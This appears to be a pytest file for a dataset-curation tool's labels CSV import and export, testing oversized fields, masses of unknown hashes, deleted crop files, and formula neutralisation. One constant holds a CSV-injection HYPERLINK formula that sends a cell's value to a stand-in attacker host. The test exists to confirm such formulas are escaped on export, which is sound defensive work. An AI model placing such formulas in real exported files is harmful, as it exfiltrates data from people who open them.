"""Labels CSV and export under hostile and unlucky inputs (issue 12): a huge field, 90,000
unknown hashes, a reason that is a spreadsheet formula, a crop deleted by hand."""

from __future__ import annotations

import csv
import json
import os

import pytest

from curation.catalog import human_labels, open_catalog
from curation.config import CurateConfig
from curation.export import export
from curation.labels_csv import SHOWN, export_labels, import_labels
from curation.rescoring import set_labels
from curation.run import curate
from tests.curation.conftest import make_workspace
from tests.helpers import studio

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'


@pytest.fixture(scope="module")
def ws(fiftyone_db, tmp_path_factory):
    root = tmp_path_factory.mktemp("labels-ws")
    make_workspace(root)
    curate(root, CurateConfig(detector="human"), progress=False)
    return root


def _shas(root) -> list[str]:
    return sorted(open_catalog(root).distinct("sha256"))


def test_a_field_over_the_csv_limit_is_one_bad_row(ws, tmp_path):
    sha = _shas(ws)[0]
    path = tmp_path / "huge.csv"
    path.write_text(f"sha256,label,reason\n{'b' * 64},reject,{'x' * 200_000}\n{sha},accept,fine\n")
    report = import_labels(ws, path)
    assert report.applied == 1 and len(report.bad) == 1 and report.bad[0].startswith("line 2:")
    assert "field larger than field limit" in report.bad[0] and len(report.bad[0]) < 200


@pytest.mark.cli
def test_ninety_thousand_unknown_hashes_are_summarised(ws, tmp_path):
    path = tmp_path / "many.csv"
    with open(path, "w", encoding="utf-8") as f:
        f.write("sha256,label\n")
        for i in range(90_000):
            f.write(f"{i:064x},reject\n")
        f.write("nonsense,accept\n")
    proc = studio("labels", "import", path, "-w", ws, timeout=240)
    assert proc.returncode == 0, proc.stderr[-2000:]
    err = proc.stderr.strip().splitlines()
    assert len(err) == 1 + SHOWN + 1, err[:3]  # the bad row, the first unknown ones, a count
    assert err[-1] == f"studio: … and {90_000 - SHOWN:,} more unknown crop hashes"
    assert "(1 bad rows, 90000 unknown hashes)" in proc.stdout


def test_formula_reasons_are_neutralised_on_export_and_round_trip(ws, tmp_path):
    a, b, c = _shas(ws)[:3]
    reasons = {a: FORMULA, b: "'=already escaped?", c: "-blurry, +1 mask @home"}
    set_labels(open_catalog(ws), [(s, "reject", r) for s, r in reasons.items()])
    out = tmp_path / "labels.csv"
    export_labels(ws, out)
    cells = {row[0]: row[2] for row in csv.reader(out.open(encoding="utf-8")) if row[0] in reasons}
    assert all(cell[0] == "'" for cell in cells.values()), cells  # no cell starts a formula
    set_labels(open_catalog(ws), [(s, "accept", "changed") for s in reasons])
    assert import_labels(ws, out).bad == []
    back = {s: r for s, lab, r in human_labels(open_catalog(ws)) if s in reasons}
    assert back == reasons


def test_export_says_when_a_crop_deleted_by_hand_is_left_out(ws, tmp_path):
    ds = open_catalog(ws)
    from fiftyone import ViewField as F

    keepers = sorted(s for s, kept in zip(*ds.values(["sha256", "dup_kept"]), strict=True) if kept)
    set_labels(ds, [(keepers[-1], "accept", "")])  # at least one accepted crop, whatever came before
    accepted = ds.match(F("decision") == "accepted")
    victim = accepted.first()
    os.unlink(victim.filepath)
    said: list[str] = []
    target = export(ws, tmp_path / "out", log=said.append)
    stats = json.loads((target / "stats.json").read_text())
    assert stats["missing_crops"] == 1 and stats["images"] == len(accepted) - 1
    assert len(said) == 1 and "left out 1 accepted crop" in said[0] and victim.sha256 in said[0]
